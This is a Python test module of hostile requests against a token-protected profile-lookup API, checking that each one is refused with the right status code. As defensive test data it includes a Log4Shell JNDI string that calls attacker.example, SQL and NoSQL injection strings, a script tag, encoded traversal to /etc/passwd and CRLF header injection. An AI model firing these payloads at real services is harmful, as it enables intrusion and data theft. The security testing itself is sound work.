"""Hostile corpus for ``GET /profiles/{trafficType}/{key}`` (the bearer-protected profile read API).

The profiles of the sample SQS batch exist (``prepare``). Refusals: credentials (401 before any lookup,
so a wrong token never reveals whether a user exists), injection and malformed keys (404 or 400),
methods and paths (404). A few hostile-looking but valid requests must still be 200.
"""

from __future__ import annotations

import base64
import json
from typing import Any

from tests.conftest import PROFILE_TOKEN, WEBHOOK_TOKEN, load_event, load_handler
from tests.hostile.support import Case, Route

ROUTE = Route(handler="profile_api", method="GET", path="/profiles/{trafficType}/{key}")

KNOWN = "/profiles/user/u-1001"
BEARER = f"Bearer {PROFILE_TOKEN}"
BASE_HEADERS = {"Host": "bridge.example.com", "User-Agent": "curl/8.5.0"}


def prepare(aws: dict[str, Any], lambda_context: Any) -> None:
    """Profiles for u-1001, qa-bot-01, ... from the sample batch (the processor on moto)."""
    response = load_handler("impressions_processor").lambda_handler(load_event("sqs_impressions.json"), lambda_context)
    assert response == {"batchItemFailures": []}


def case(
    name: str,
    status: int,
    error: str | None = None,
    *,
    path: str = KNOWN,
    authorization: str | None = BEARER,
    headers: dict[str, str] | None = None,
    **kwargs: Any,
) -> Case:
    merged = dict(BASE_HEADERS)
    if authorization is not None:
        merged["Authorization"] = authorization
    merged.update(headers or {})
    return Case(name=name, status=status, error=error, path=path, headers=merged, **kwargs)


def unauthorized(name: str, authorization: str | None, **kwargs: Any) -> Case:
    return case(name, 401, "unauthorized", authorization=authorization, **kwargs)


def not_found(name: str, key: str, traffic_type: str = "user") -> Case:
    """A well-routed lookup of a profile that does not exist (``key`` as it appears in the URL)."""
    return case(name, 404, "profile_not_found", path=f"/profiles/{traffic_type}/{key}")


def gateway_404(name: str, method: str = "GET", path: str = KNOWN) -> Case:
    """No such route: API Gateway answers 404 itself; the function's own fallback must agree."""
    return case(name, 404, "not_found", method=method, path=path, gateway_404=True)


def _set_authorization(value: str) -> Any:
    def hook(event: dict[str, Any]) -> None:
        event["headers"]["authorization"] = value

    return hook


CASES: list[Case] = [
    # ---- credentials: 401 before any lookup ----------------------------------------------------
    unauthorized("no_authorization", None),
    unauthorized("no_authorization_unknown_user", None, path="/profiles/user/nobody"),
    unauthorized("empty_authorization", ""),
    unauthorized("scheme_only", "Bearer"),
    unauthorized("scheme_and_spaces", "Bearer    "),
    unauthorized("wrong_token", "Bearer nope"),
    unauthorized("wrong_token_unknown_user", "Bearer nope", path="/profiles/user/nobody"),
    unauthorized("token_prefix", f"Bearer {PROFILE_TOKEN[:-1]}"),
    unauthorized("token_with_suffix", f"Bearer {PROFILE_TOKEN}x"),
    unauthorized("token_other_case", f"Bearer {PROFILE_TOKEN.upper()}"),
    unauthorized("token_without_scheme", PROFILE_TOKEN),
    unauthorized("scheme_typo", f"Bearr {PROFILE_TOKEN}"),
    unauthorized("scheme_glued_to_token", f"Bearer{PROFILE_TOKEN}"),
    unauthorized("basic_scheme", "Basic " + base64.b64encode(f"user:{PROFILE_TOKEN}".encode()).decode()),
    unauthorized("digest_scheme", f'Digest username="u", response="{PROFILE_TOKEN}"'),
    unauthorized("webhook_token_as_bearer", f"Bearer {WEBHOOK_TOKEN}"),
    unauthorized("token_in_query_only", None, query=f"token={PROFILE_TOKEN}"),
    unauthorized("token_in_other_header", None, headers={"X-Flagbridge-Token": PROFILE_TOKEN}),
    unauthorized("duplicated_authorization", BEARER, headers={"authorization": BEARER}),
    unauthorized("duplicated_authorization_right_and_wrong", BEARER, headers={"authorization": "Bearer nope"}),
    unauthorized("huge_token", "Bearer " + "A" * 65_536),
    unauthorized("token_not_ascii", "Bearer t\u00f6k\u00e9n-\U0001f511"),
    unauthorized("token_with_nul", f"Bearer {PROFILE_TOKEN}\u0000"),
    unauthorized("token_with_crlf_injection", f"Bearer {PROFILE_TOKEN}\r\nX-Injected: 1"),
    unauthorized("token_sql_injection", "Bearer ' OR '1'='1"),
    unauthorized("token_lone_surrogate", None, event_hook=_set_authorization("Bearer tok\udc80en\ud800")),
    # ---- keys and traffic types: nothing to find ------------------------------------------------
    not_found("unknown_key", "nobody"),
    not_found("unknown_traffic_type", "u-1001", traffic_type="robot"),
    not_found("traffic_type_case", "u-1001", traffic_type="USER"),
    not_found("sql_injection", "%27%20OR%20%271%27%3D%271"),
    not_found("nosql_injection", "%7B%22%24ne%22%3Anull%7D"),
    not_found("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    not_found("script_tag", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    not_found("encoded_path_traversal", "..%2F..%2Fetc%2Fpasswd"),
    not_found("encoded_slash", "u-1001%2FFLAG%23new_checkout"),
    not_found("hash_in_key", "u-1001%23FLAG%23new_checkout"),
    not_found("hash_in_traffic_type", "u-1001", traffic_type="user%23u-1001"),
    not_found("nul_in_key", "u-1001%00"),
    not_found("control_characters", "%1B%5B31m%07%7F"),
    not_found("crlf_in_key", "u-1001%0D%0ASet-Cookie%3A%20x%3D1"),
    not_found("invalid_utf8_percent", "%FF%FE"),
    not_found("overlong_utf8_percent", "%C0%AF"),
    not_found("encoded_surrogate_percent", "%ED%A0%80"),
    not_found("double_encoded", "u-1001%2525"),
    not_found("truncated_percent", "u-1001%"),
    not_found("spaces", "u%201001"),
    not_found("dot_key", "."),
    not_found("star_traffic_type", "u-1001", traffic_type="*"),
    not_found("fullwidth_key", "%EF%BD%95-1001"),
    not_found("key_1024_bytes", "k" * 1024),
    case("key_over_dynamodb_limit", 400, "key_too_long", path="/profiles/user/" + "k" * 2100),
    case(
        "traffic_type_over_dynamodb_limit",
        400,
        "key_too_long",
        path=f"/profiles/{'t' * 2100}/u-1001",
    ),
    case(
        "multibyte_key_over_dynamodb_limit",
        400,
        "key_too_long",
        path="/profiles/user/" + "%F0%9F%98%80" * 600,
    ),
    # ---- methods and paths: API Gateway has no route for these ----------------------------------
    gateway_404("post", "POST"),
    gateway_404("put", "PUT"),
    gateway_404("patch", "PATCH"),
    gateway_404("delete", "DELETE"),
    gateway_404("head", "HEAD"),
    gateway_404("options", "OPTIONS"),
    gateway_404("missing_key", path="/profiles/user"),
    gateway_404("empty_key", path="/profiles/user/"),
    gateway_404("empty_traffic_type", path="/profiles//u-1001"),
    gateway_404("extra_segment", path=KNOWN + "/flags"),
    gateway_404("trailing_slash", path=KNOWN + "/"),
    gateway_404("profiles_root", path="/profiles"),
    gateway_404("upper_case_prefix", path="/Profiles/user/u-1001"),
    gateway_404("dot_segments", path="/profiles/user/../../split/impressions"),
    gateway_404("webhook_path", path="/split/impressions"),
    # ---- hostile-looking but valid: still 200 ---------------------------------------------------
    case("lower_case_scheme", 200, authorization=f"bearer {PROFILE_TOKEN}"),
    case("extra_spaces_around_token", 200, authorization=f"Bearer   {PROFILE_TOKEN}  "),
    case("body_on_get_is_ignored", 200, body=json.dumps({"key": "qa-bot-01"}).encode()),
    case("binary_body_on_get_is_ignored", 200, body=b"\x1f\x8b\x00\xff", headers={"Content-Encoding": "gzip"}),
    case("garbage_query_is_ignored", 200, query="a=%ZZ&&&=&key=qa-bot-01&" + "x=y&" * 500),
    case("hostile_headers_are_ignored", 200, headers={"X-Forwarded-For": "' OR 1=1", "Content-Type": "text/html"}),
]


def verify_accepted(case: Case, body: dict[str, Any], aws: dict[str, Any]) -> None:
    """A 200 is the profile of the key in the path, never of a key smuggled elsewhere in the request."""
    assert body["trafficType"] == "user" and body["key"] == "u-1001", body
    assert body["flags"]["new_checkout"]["treatment"] == "off"
